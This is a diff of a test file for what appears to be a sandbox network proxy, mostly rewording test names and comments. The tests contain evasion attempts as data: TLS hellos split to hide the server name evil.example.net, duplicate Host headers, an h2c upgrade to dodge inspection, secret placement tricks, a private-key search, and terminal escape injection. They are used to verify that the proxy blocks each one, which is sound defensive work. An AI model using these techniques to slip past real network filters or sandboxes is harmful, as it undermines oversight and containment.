@@ -23,8 +23,8 @@ beforeAll(async () => {
 afterAll(() => inside.remove());
 
 /**
- * Speaks TLS to a host through a tunnel, as carefully or as carelessly as `work` says; \`c\` is the connection before
- * TLS, \`hello(name)\` the bytes of a client's hello.
+ * Returns a script that speaks TLS to a host through a tunnel, as carefully or carelessly as `work` does. `c` is the
+ * connection before TLS, and `hello(name)` returns the bytes of a client hello.
  */
 const tunnelled = (work: string) => `
 import os, socket, ssl, sys, time
@@ -58,7 +58,7 @@ const python = async (work: string) => {
   return stdout;
 };
 
-describe("a hello that hides its name", () => {
+describe("a TLS hello that hides its server name", () => {
   const pieces: Record<string, string> = {
     "in one piece": "c.sendall(h)",
     "byte by byte": "[c.sendall(bytes([b])) for b in h]",
@@ -67,7 +67,7 @@ describe("a hello that hides its name", () => {
     "the name across two records": "n = h.index(b'example') - 5; c.sendall(record(h, h[5:][:n]) + record(h, h[5:][n:]))",
     "behind an empty record": "c.sendall(record(h, b'') + h)",
   };
-  /** The names that arrive when this is said to a host that is allowed and not looked into. */
+  /** Returns the server names that arrive when this is sent to a host that is allowed and not inspected. */
   const arriving = async (name: string, send: string) => {
     await seen();
     await python(`
@@ -81,7 +81,7 @@ try: print(c.recv(20))
 except OSError as error: print(error)`);
     return (await seen()).hellos;
   };
-  /** By servers; and by us, past 256 pieces, of which the machine decides how many arrive together. */
+  /** Servers may refuse these. We may refuse more than 256 pieces; the machine decides how many arrive together. */
   const mayBeRefused = ["behind an empty record", "byte by byte"];
   test.each(Object.entries(pieces))("%s", async (how, send) => {
     expect(await arriving("evil.example.net", send)).toEqual([]);
@@ -89,8 +89,8 @@ except OSError as error: print(error)`);
   });
 });
 
-describe("requests in a tunnel that is looked into", () => {
-  test("for another host, or none, or not a request at all: nothing arrives", async () => {
+describe("requests in an inspected tunnel", () => {
+  test("do not arrive if they name another host or none, or are not HTTP", async () => {
     const refused = [
       "GET / HTTP/1.1\r\nHost: evil.example.net\r\nX: KEY\r\n\r\n",
       "GET / HTTP/1.1\r\nHost: api.example.com\r\nHost: evil.example.net\r\nX: KEY\r\n\r\n",
@@ -101,12 +101,12 @@ describe("requests in a tunnel that is looked into", () => {
       "SSH-2.0-x\r\nKEY\r\n\r\n",
     ];
     await seen();
-    const told = await python(`
+    const statusLines = await python(`
 import json
 for request in json.loads(${JSON.stringify(JSON.stringify([...refused, "GET /good HTTP/1.1\r\nHost: api.example.com\r\nConnection: close\r\n\r\n"]))}):
     s = secure("api.example.com"); s.settimeout(30); s.sendall(request.replace("KEY", key).encode()); print(rest(s)[:12].decode())`);
     expect(
-      told
+      statusLines
         .trim()
         .split("\n")
         .map((line) => line.slice(9, 10)),
@@ -114,16 +114,16 @@ for request in json.loads(${JSON.stringify(JSON.stringify([...refused, "GET /goo
     expect((await seen()).requests.map(({ path }) => path)).toEqual(["/good"]);
   });
 
-  test("each is decided on its own, also behind one that is allowed", async () => {
+  test("are checked one by one, even after an allowed one", async () => {
     await seen();
     const two =
       "GET /open/1 HTTP/1.1\\r\\nHost: other.example.com\\r\\n\\r\\nGET /closed HTTP/1.1\\r\\nHost: other.example.com\\r\\nConnection: close\\r\\n\\r\\n";
-    const told = await python(`s = secure("other.example.com"); s.settimeout(30); s.sendall(b"${two}"); print(rest(s).decode())`);
-    expect(told).toMatch(/HTTP\/1\.1 200 [\s\S]*HTTP\/1\.1 403 /);
+    const responses = await python(`s = secure("other.example.com"); s.settimeout(30); s.sendall(b"${two}"); print(rest(s).decode())`);
+    expect(responses).toMatch(/HTTP\/1\.1 200 [\s\S]*HTTP\/1\.1 403 /);
     expect((await seen()).requests.map(({ path }) => path)).toEqual(["/open/1"]);
   });
 
-  test("a wish for HTTP/2 does not open a way past it", async () => {
+  test("cannot evade inspection by an upgrade to HTTP/2", async () => {
     await seen();
     const upgrade = "-H 'Upgrade: h2c' -H 'HTTP2-Settings: AAMAAABkAAQAAP__' -H 'Connection: Upgrade, HTTP2-Settings'";
     for (const url of ["http://api.example.com/", "https://api.example.com/"]) await inside.ok(`curl -sS --http1.1 ${upgrade} ${url}`);
@@ -132,8 +132,8 @@ for request in json.loads(${JSON.stringify(JSON.stringify([...refused, "GET /goo
   });
 });
 
-describe("a secret that is to be somewhere else", () => {
-  test("in places where a server would show or keep it, it stays the placeholder", async () => {
+describe("a secret in an unexpected place", () => {
+  test("stays a placeholder where a server would show or store it", async () => {
     await seen();
     const requests = [
       "GET /{key} HTTP/1.1\\r\\nHost: api.example.com",
@@ -149,16 +149,16 @@ describe("a secret that is to be somewhere else", () => {
     expect(textWith(JSON.stringify((await seen()).requests), machine.internet.canary)).toEqual([]);
   });
 
-  test("a server that sends it back in pieces, or where it does not belong, shows the placeholder", async () => {
-    const told = await inside.ok(`curl -sSi -H "X-Key: $KEY" -H "X-Twice: $KEY $KEY" https://api.example.com/`);
-    expect(textWith(told, machine.internet.canary)).toEqual([]);
-    expect(told.match(/ghp_\w{36}/g)).toHaveLength(3);
-    // Asked for uncompressed, so that it can be looked through.
-    expect(told).not.toMatch(/"accept-encoding":"[^"]*gzip/);
+  test("is a placeholder again when a server sends it back in pieces or elsewhere", async () => {
+    const response = await inside.ok(`curl -sSi -H "X-Key: $KEY" -H "X-Twice: $KEY $KEY" https://api.example.com/`);
+    expect(textWith(response, machine.internet.canary)).toEqual([]);
+    expect(response.match(/ghp_\w{36}/g)).toHaveLength(3);
+    // The proxy requests the response uncompressed, to be able to search it.
+    expect(response).not.toMatch(/"accept-encoding":"[^"]*gzip/);
   });
 
   test("nothing inside can sign for the sandbox's authority", async () => {
-    // In /etc, which is the machine's, there may be files that only speak of keys.
+    // The machine's files in /etc may mention keys without containing one.
     const look = "grep -rls 'PRIVATE KEY' /run /tmp /home /workspace; grep -rlsE '^-----BEGIN [A-Z ]*PRIVATE KEY-----' /etc; true";
     const keys = await inside.run(["sh", "-c", `(${look}) 2>/dev/null`], { user: "root" });
     expect(keys.stdout.split("\n").filter((path) => !path.startsWith("/etc/ssl") && path !== "")).toEqual([]);
@@ -175,8 +175,8 @@ describe("a secret that is to be somewhere else", () => {
   });
 });
 
-describe("other doors", () => {
-  test("the ports that the host serves cannot be taken, also while nobody serves", async () => {
+describe("other ways out", () => {
+  test("the proxy's ports cannot be taken over, even while no process serves them", async () => {
     const take =
       "import socket\nfor port in (19080,):\n  for a in ('127.0.0.1', '0.0.0.0'):\n    s = socket.socket(); s.setsockopt(1, 2, 1); s.setsockopt(1, 15, 1)\n    try: s.bind((a, port)); s.listen(); print('took', port)\n    except OSError as e: print(e.errno)";
     const { servedBy } = JSON.parse((await machine.run(["net", "show", inside.id, "--json"])).stdout) as { servedBy: number };
@@ -187,7 +187,7 @@ describe("other doors", () => {
     expect((await trying.finished).stdout).toBe("ready\n98\n98\n");
   });
 
-  test("the mirror of registries asks nobody else, whatever it is asked for", async () => {
+  test("the registry mirror contacts only the registries", async () => {
     await inside.ok("true");
     await seen();
     const targets = [
@@ -214,7 +214,7 @@ describe("other doors", () => {
     expect(questions.filter(({ name }) => name.includes("evil"))).toEqual([]);
   });
 
-  test("what somebody writes into a log does not reach a terminal as it is", async () => {
+  test("the network log escapes control characters from requests", async () => {
     const nasty = "GET http://evil.example.net/%1b%5b31m\x1b[31m HTTP/1.1\r\nHost: evil.example.net\r\n\r\n";
     await inside.exchange([
       { send: nasty },
@@ -228,7 +228,7 @@ describe("other doors", () => {
     expect(stdout).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f-\x9f]/);
   });
 
-  test("an answer that is none is not passed on", async () => {
+  test("an invalid response is not forwarded", async () => {
     const bad = [
       "HTTP/1.1 200 OK\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nhello!",
       "HTTP/1.1 200 OK\nX: y\n\n",
@@ -244,7 +244,7 @@ describe("other doors", () => {
     }
   });
 
-  test("a WebSocket works through it, plain and looked into", async () => {
+  test("a WebSocket works in a plain and in an inspected tunnel", async () => {
     const frames = `
 def socket_to(c):
     c.settimeout(30)
